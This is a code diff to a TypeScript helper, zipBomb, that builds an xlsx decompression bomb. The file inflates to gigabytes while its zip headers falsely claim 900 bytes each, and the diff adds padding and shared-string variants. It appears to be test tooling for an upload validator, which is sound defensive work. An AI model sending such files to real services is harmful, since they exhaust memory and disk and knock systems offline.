@@ -1,4 +1,5 @@
 import { createWriteStream } from 'node:fs';
+import { randomBytes } from 'node:crypto';
 import { deflateRawSync, constants as zlib } from 'node:zlib';
 
 /**
@@ -81,39 +82,66 @@ function zip(entries: Entry[]): Buffer[] {
 const deflate = (text: string | Buffer, last = false) =>
   deflateRawSync(text, { finishFlush: last ? zlib.Z_FINISH : zlib.Z_FULL_FLUSH, level: 9 });
 
+export interface BombOptions {
+  /** Bytes the bomb unzips to, about. */
+  inflated?: number;
+  /** Random bytes stored first (they do not compress), to make the file weigh more. */
+  pad?: number;
+  /** Where the bulk goes: blank space in the sheet's data, or one shared string of `a`s. */
+  into?: 'sheet' | 'string';
+}
+
 /**
- * An xlsx of one sheet that unzips to about `inflated` bytes (blank space inside its sheet data)
- * while every header claims 900 bytes: each 1 MB of blanks deflates, dictionary reset, to the same
- * ~1 KB, so the bomb is that block repeated.
+ * An xlsx of one sheet that unzips to about `inflated` bytes while every header claims 900 bytes:
+ * each 1 MB of filler deflates, dictionary reset, to the same ~1 KB, so the bomb is that block
+ * repeated.
  */
-export async function zipBomb(path: string, inflated = 1536 * 1024 * 1024): Promise<void> {
+export async function zipBomb(path: string, { inflated = 1536 * 1024 * 1024, pad = 0, into = 'sheet' }: BombOptions = {}): Promise<void> {
   const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
   const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
   const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
   const small = (name: string, text: string): Entry => ({ name, data: deflate(xml + text, true), claimed: 900 });
-  const blanks = deflate(Buffer.alloc(1024 * 1024, 0x20));
-  const sheet = Buffer.concat([
-    deflate(`${xml}<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>`),
-    ...Array.from({ length: Math.ceil(inflated / (1024 * 1024)) }, () => blanks),
-    deflate('</sheetData></worksheet>', true),
-  ]);
-  await writeParts(
-    path,
-    zip([
+  const filler = deflate(Buffer.alloc(1024 * 1024, into === 'sheet' ? 0x20 : 0x61));
+  const bomb = (before: string, after: string) =>
+    Buffer.concat([
+      deflate(xml + before),
+      ...Array.from({ length: Math.ceil(inflated / (1024 * 1024)) }, () => filler),
+      deflate(after, true),
+    ]);
+  const header = '<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>';
+  const entries: Entry[] = [
+    small(
+      '[Content_Types].xml',
+      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
+    ),
+    small('_rels/.rels', `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`),
+    small(
+      'xl/_rels/workbook.xml.rels',
+      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+    ),
+    small(
+      'xl/workbook.xml',
+      `<workbook xmlns="${main}" xmlns:r="${rel}"><sheets><sheet name="list" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+    ),
+  ];
+  if (pad > 0) entries.unshift({ name: 'xl/media/pad.bin', data: deflate(randomBytes(pad), true), claimed: 900 });
+  if (into === 'sheet')
+    entries.push({
+      name: 'xl/worksheets/sheet1.xml',
+      data: bomb(`<worksheet xmlns="${main}"><sheetData>${header}`, '</sheetData></worksheet>'),
+      claimed: 900,
+    });
+  else
+    entries.push(
+      {
+        name: 'xl/sharedStrings.xml',
+        data: bomb(`<sst xmlns="${main}" count="1" uniqueCount="1"><si><t>`, '</t></si></sst>'),
+        claimed: 900,
+      },
       small(
-        '[Content_Types].xml',
-        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
+        'xl/worksheets/sheet1.xml',
+        `<worksheet xmlns="${main}"><sheetData>${header}<row r="2"><c r="A2" t="s"><v>0</v></c></row></sheetData></worksheet>`,
       ),
-      small('_rels/.rels', `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`),
-      small(
-        'xl/_rels/workbook.xml.rels',
-        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
-      ),
-      small(
-        'xl/workbook.xml',
-        `<workbook xmlns="${main}" xmlns:r="${rel}"><sheets><sheet name="list" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-      ),
-      { name: 'xl/worksheets/sheet1.xml', data: sheet, claimed: 900 },
-    ]),
-  );
+    );
+  await writeParts(path, zip(entries));
 }
